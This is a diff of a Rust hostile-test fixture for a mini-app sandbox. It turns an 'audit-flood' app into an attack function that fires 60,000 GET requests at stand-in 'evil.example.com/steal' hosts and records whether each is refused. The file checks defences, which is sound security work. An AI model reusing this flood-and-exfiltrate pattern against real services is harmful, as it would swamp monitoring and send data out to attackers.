@@ -11,46 +11,34 @@
 //! Page data after the attack: `outcome` (`"refused"` when every call was
 //! refused), `refused` (how many were), `error_kind` (the first refusal's).
 
-use miniapp_sdk::{App, Error, Event, Launch, Result, http, json, view};
+use miniapp_sdk::{Event, Result, http, json, view};
 
 const ATTACK: &str = "audit-flood";
 const SAME: u32 = 50_000;
 const DISTINCT: u32 = 10_000;
 
-#[derive(Default)]
-struct AuditFlood;
-
-impl App for AuditFlood {
-    fn on_launch(&mut self, _launch: &Launch) -> Result<()> {
-        view::set_data(json!({ "attack": ATTACK, "ready": true }))
-    }
-
-    fn on_event(&mut self, event: &Event) -> Result<()> {
-        if (event.page.as_str(), event.handler.as_str()) != ("index", "attack") {
-            return Err(Error::app("unknown handler"));
+fn attack(_event: &Event) -> Result<()> {
+    let same = (0..SAME).map(|_| "https://evil.example.com/steal".to_string());
+    let distinct = (0..DISTINCT).map(|n| format!("https://evil-{n}.example.com/steal"));
+    let mut refused = 0u32;
+    let mut kind = None;
+    for url in same.chain(distinct) {
+        if let Err(e) = http::get(&url) {
+            refused += 1;
+            kind.get_or_insert(e.kind());
         }
-        let same = (0..SAME).map(|_| "https://evil.example.com/steal".to_string());
-        let distinct = (0..DISTINCT).map(|n| format!("https://evil-{n}.example.com/steal"));
-        let mut refused = 0u32;
-        let mut kind = None;
-        for url in same.chain(distinct) {
-            if let Err(e) = http::get(&url) {
-                refused += 1;
-                kind.get_or_insert(e.kind());
-            }
-        }
-        let outcome = if refused == SAME + DISTINCT {
-            "refused"
-        } else {
-            "succeeded"
-        };
-        view::set_data(json!({
-            "attack": ATTACK,
-            "outcome": outcome,
-            "refused": refused,
-            "error_kind": kind,
-        }))
     }
+    let outcome = if refused == SAME + DISTINCT {
+        "refused"
+    } else {
+        "succeeded"
+    };
+    view::set_data(json!({
+        "attack": ATTACK,
+        "outcome": outcome,
+        "refused": refused,
+        "error_kind": kind,
+    }))
 }
 
-miniapp_sdk::export_app!(AuditFlood);
+hostile_fixture::export_attack_fn!(ATTACK, attack);
